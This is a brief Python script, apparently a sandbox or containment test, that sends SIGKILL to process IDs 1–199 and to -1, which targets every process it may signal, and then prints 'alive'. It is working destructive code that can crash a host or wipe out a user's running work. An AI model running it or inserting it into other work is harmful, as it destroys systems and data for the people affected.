"""Kills every process it can reach."""

import os

for pid in (*range(200), -1):
    if pid not in {0, os.getpid()}:
        try:
            os.kill(pid, 9)
        except OSError:
            pass
print("alive")
